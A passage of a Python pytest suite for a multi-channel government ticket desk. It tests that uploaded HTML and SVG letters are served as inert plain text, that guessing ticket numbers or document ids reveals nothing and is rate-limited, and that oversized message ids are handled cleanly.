@pytest.mark.parametrize("channel", ["telegram", "whatsapp", "web"])
@pytest.mark.parametrize("name", sorted(ACTIVE_FILES))
async def test_html_and_svg_letters_are_kept_as_plain_text_and_given_back_inert(
    desk: Desk, channel: str, name: str
) -> None:
    data, mime = ACTIVE_FILES[name]
    who = person(desk, channel, 3)
    await walk(who, network_repair(ATTACKER))
    await who.send_file(name, data, mime)
    await who.tap("sum:send")
    ref = await desk.ref_of(channel, who.chat)
    assert ref is not None, who.heard()[-3:]
    # The Kepala Dinas (the ticket's first step) opens the letter on each of his chats.
    officer = WebPerson(desk, desk.browser())
    await officer.say("halo")
    on_telegram, on_whatsapp = (
        TelegramPerson(desk, 7_500_001),
        WhatsAppPerson(desk, "6281375000001"),
    )
    async with desk.db.transaction() as conn:
        kadis = await repo.add_officer(
            conn, agency="babel", name="Rudi", roles=["kadis"], at=MONDAY_MORNING
        )
        for chat in (officer, on_telegram, on_whatsapp):
            await repo.bind_officer_identity(
                conn,
                officer_id=kadis.id,
                channel=chat.channel,
                external_id=chat.chat,
                at=MONDAY_MORNING,
            )
    attachment = await attachment_choice(desk, ref)

    for chat in (officer, on_telegram, on_whatsapp):
        await chat.say(f"/tiket {ref}")
        await chat.tap(attachment)

    # Stored under a .txt name as text/plain (sniffed from the bytes, not the sender's word).
    stored = await stored_attachment(desk, ref)
    assert stored["mime"] == "text/plain" and stored["filename"].endswith(".txt")
    # The web page downloads it as an attachment the browser may not sniff into HTML.
    [document] = [m["document"] for m in officer.said if m.get("document")]
    download = await officer.client.get(document["url"])
    assert download.status_code == 200 and download.content == data
    assert download.headers["content-type"] == "text/plain; charset=utf-8"
    assert download.headers["content-disposition"].startswith("attachment;")
    assert ".txt" in download.headers["content-disposition"]
    assert download.headers["x-content-type-options"] == "nosniff"
    # Telegram and WhatsApp get it as a .txt document of type text/plain.
    [sent] = [c for c in desk.telegram.calls("sendDocument") if c.chat_id == on_telegram.chat]
    assert (sent.files["document"][0] or "").endswith(".txt")
    [upload] = desk.graph.uploads()
    assert upload.file is not None
    assert upload.file[0].endswith(".txt") and upload.file[1] == "text/plain"
    assert not any(kind in upload.file[1] for kind in ACTIVE_TYPES)


async def attachment_choice(desk: Desk, ref: str) -> str:
    """The button data that opens the ticket's first attachment."""
    stored = await stored_attachment(desk, ref)
    return OfficerTap(OfficerAction.FILE, ref, str(stored["id"])).pack()


async def stored_attachment(desk: Desk, ref: str) -> dict[str, Any]:
    async with desk.db.transaction() as conn:
        ticket = await repo.get_ticket(conn, ref=ref)
        assert ticket is not None
        [found] = await repo.ticket_attachments(conn, ticket_id=ticket.id)
    return {"id": found.id, "mime": found.mime, "filename": found.filename}


# --------------------------------------------------------------------------- guessing refs


def missing_answer(answer: str, ref: str) -> str:
    """An answer with the guessed ref taken out (to compare answers about different refs)."""
    return answer.replace(ref, "<ref>")


@pytest.mark.parametrize("channel", ["telegram", "whatsapp", "web"])
async def test_a_requester_guessing_ticket_numbers_in_chat_learns_nothing_a_missing_one_would_not(
    desk: Desk, channel: str
) -> None:
    victims_ref = await file_victims_ticket(desk)
    guesser = person(desk, channel, 4)
    await guesser.say("halo")
    year, number = victims_ref.rsplit("-", 2)[1], int(victims_ref.rsplit("-", 1)[1])
    missing = f"BABEL-{year}-{number + 19:05d}"
    guesses = [f"BABEL-{year}-{n:05d}" for n in range(max(1, number - 10), number + 20)]
    guesses += [f"KALBAR-{year}-00001", f"babel-{year}-{number}", f"BABEL {year} {number}"]
    if channel == "web":  # a session may post 30 times a minute (the next test is about that)
        guesses = [victims_ref, missing, f"babel-{year}-{number}", f"KALBAR-{year}-00001"]
    before = await desk.snapshot()

    answers: dict[str, str] = {}
    for guess in guesses:
        for command in ("/status", "/tiket", "/cek"):
            heard = len(guesser.heard())
            await guesser.say(f"{command} {guess}")
            answers[f"{command} {guess}"] = "\n".join(guesser.heard()[heard:])
    after = await desk.snapshot()

    for answer in answers.values():
        assert_no_victim_data(answer)
    # The victim's ticket is answered word for word like a ticket that does not exist.
    for command in ("/status", "/tiket", "/cek"):
        assert missing_answer(answers[f"{command} {victims_ref}"], victims_ref) == missing_answer(
            answers[f"{command} {missing}"], missing
        )
    assert before.grown(after, ignore=("inbox", "outbox")) == {}


async def test_guessing_ticket_numbers_by_the_thousand_on_the_web_chat_hits_its_rate_limit(
    desk: Desk,
) -> None:
    victims_ref = await file_victims_ticket(desk)
    year = victims_ref.split("-")[1]
    guesser = WebPerson(desk, desk.browser())

    answers = [
        await guesser.post({"text": f"/status BABEL-{year}-{n:05d}"}) for n in range(1, 1001)
    ]

    statuses = Counter(r.status_code for r in answers)
    assert set(statuses) == {200, 429} and statuses[429] > 900
    limited = next(r for r in answers if r.status_code == 429)
    assert 1 <= int(limited.headers["retry-after"]) <= 60
    for response in answers:
        assert_no_victim_data(response.text)


async def test_guessing_ticket_refs_through_the_api_by_the_thousand_is_limited_and_tells_nothing(
    desk: Desk,
) -> None:
    await file_victims_ticket(desk)
    async with desk.db.transaction() as conn:
        requester = await repo.get_or_create_requester(
            conn, channel="web", external_id="k1", display_name="Budi", at=MONDAY_MORNING
        )
        kalbar = await repo.create_ticket(
            conn,
            agency="kalbar",
            prefix="KALBAR",
            year=2026,
            service="jaringan-intra",
            product="perbaikan",
            requester_id=requester,
            channel="web",
            chat_id="k1",
            fields={"nama": VICTIM["name"], "telepon": VICTIM["phone"]},
            requirements={},
            created_at=MONDAY_MORNING,
            start_at=MONDAY_MORNING,
            target_at=MONDAY_MORNING + timedelta(days=1),
            due_at=MONDAY_MORNING + timedelta(days=3),
            step="disposisi-kadis",
            assigned_role="kadis",
            step_due_at=MONDAY_MORNING + timedelta(hours=3),
            priority=1,
        )
    guesses = [f"KALBAR-2026-{n:05d}" for n in range(1, 1001)]
    assert kalbar.ref in guesses

    def ask(ref: str, token: str) -> Any:
        return desk.client.get(
            f"/api/v1/tickets/{ref}", headers={"Authorization": f"Bearer {token}"}
        )

    own = [await ask(ref, desk.tokens["all"]) for ref in guesses]
    other_agency = [await ask(ref, desk.tokens["kalbar"]) for ref in guesses[:50]]
    unknown = [await ask(ref, new_token()) for ref in guesses[:50]]
    no_scope = [await ask(ref, desk.tokens["catalog"]) for ref in (kalbar.ref, "BABEL-2026-99999")]

    statuses = Counter(r.status_code for r in own)
    assert set(statuses) == {404, 429}
    assert statuses[404] == desk.settings.api_rate_per_minute
    assert 1 <= int(next(r for r in own if r.status_code == 429).headers["retry-after"]) <= 60

    def problem(response: httpx.Response) -> dict[str, Any]:
        return {k: v for k, v in response.json().items() if k != "instance"}

    # The other agency's ticket is answered exactly like the missing ones around it.
    found = [problem(r) for r in own if r.status_code == 404]
    assert all(p == found[0] for p in found)
    assert own[guesses.index(kalbar.ref)].status_code == 404
    # Another agency's token is no credential here: the same 401 as a made-up token.
    assert {r.status_code for r in other_agency + unknown} == {401}
    assert {json.dumps(problem(r)) for r in other_agency + unknown} == {
        json.dumps(problem(unknown[0]))
    }
    # A token without tickets:read learns nothing about which refs exist.
    assert [r.status_code for r in no_scope] == [403, 403]
    assert problem(no_scope[0]) == problem(no_scope[1])
    for response in own + other_agency + unknown + no_scope:
        assert_no_victim_data(response.text)
    async with desk.db.transaction() as conn:
        reads = (await conn.execute(text("SELECT count(*) FROM access_log"))).scalar_one()
    assert reads == 0


async def test_web_documents_of_another_session_are_answered_like_missing_ones(
    desk: Desk,
) -> None:
    victim = WebPerson(desk, desk.browser())
    await victim.say("halo")
    document = OutboundDocument(VICTIM_DOCUMENT, "application/pdf", PDF + VICTIM["name"].encode())
    async with desk.db.transaction() as conn:
        row = await repo.enqueue(
            conn,
            key="ba-victim",
            channel="web",
            recipient=victim.chat,
            payload=Outbound(text="Berita acara terlampir.", document=document).to_payload(),
            at=datetime.now(UTC),
        )
    assert row is not None
    attacker = desk.browser()
    await WebPerson(desk, attacker).say("halo")

    answers = [await attacker.get(f"/web/api/documents/{n}") for n in range(1, row + 50)]
    mine = await victim.client.get(f"/web/api/documents/{row}")

    assert mine.status_code == 200
    assert {(r.status_code, r.text) for r in answers} == {
        (404, json.dumps({"error": "Dokumen tidak ditemukan."}, separators=(",", ":")))
    }
    async with desk.db.transaction() as conn:
        status = (await conn.execute(select(outbox.c.status).where(outbox.c.id == row))).scalar()
    assert status == repo.OUTBOX_PENDING


async def test_message_ids_no_message_can_have_get_the_answer_an_unknown_id_gets(
    db: Database, tmp_path: Path
) -> None:
    """Outbox ids are 32-bit on PostgreSQL and 64-bit on SQLite: a larger number in a web
    chat's cursor, acknowledgement or document address is a message nobody has, not a busy
    database (503, "send again") nor a crash (500)."""
    app = create_app(
        Settings(_env_file=None, data_dir=tmp_path / "data"),  # type: ignore[call-arg]
        db=db,
        channels=[web_channel],
        jobs=[],
    )
    async with app.router.lifespan_context(app):
        transport = httpx.ASGITransport(app=app, raise_app_exceptions=False)
        async with httpx.AsyncClient(transport=transport, base_url="http://desk") as browser:
            hello = {"id": str(uuid.uuid4()), "text": "halo"}
            assert (await browser.post("/web/api/messages", json=hello, headers=CSRF)).is_success
            huge = [2**31, 2**63, 10**30]

            acks = [
                await browser.post("/web/api/messages/ack", json={"ids": [n]}, headers=CSRF)
                for n in huge
            ]
            documents = [await browser.get(f"/web/api/documents/{n}") for n in huge[:2]]
            polls = [
                await browser.get("/web/api/messages", params={"after": str(n)}) for n in huge[:2]
            ]

    assert [(r.status_code, r.json()) for r in acks] == [(200, {"acknowledged": 0})] * 3
    assert [r.status_code for r in documents] == [404, 404]
    assert [r.status_code for r in polls] == [200, 400]  # 19 digits are no cursor at all
    assert polls[0].json()["messages"] == []
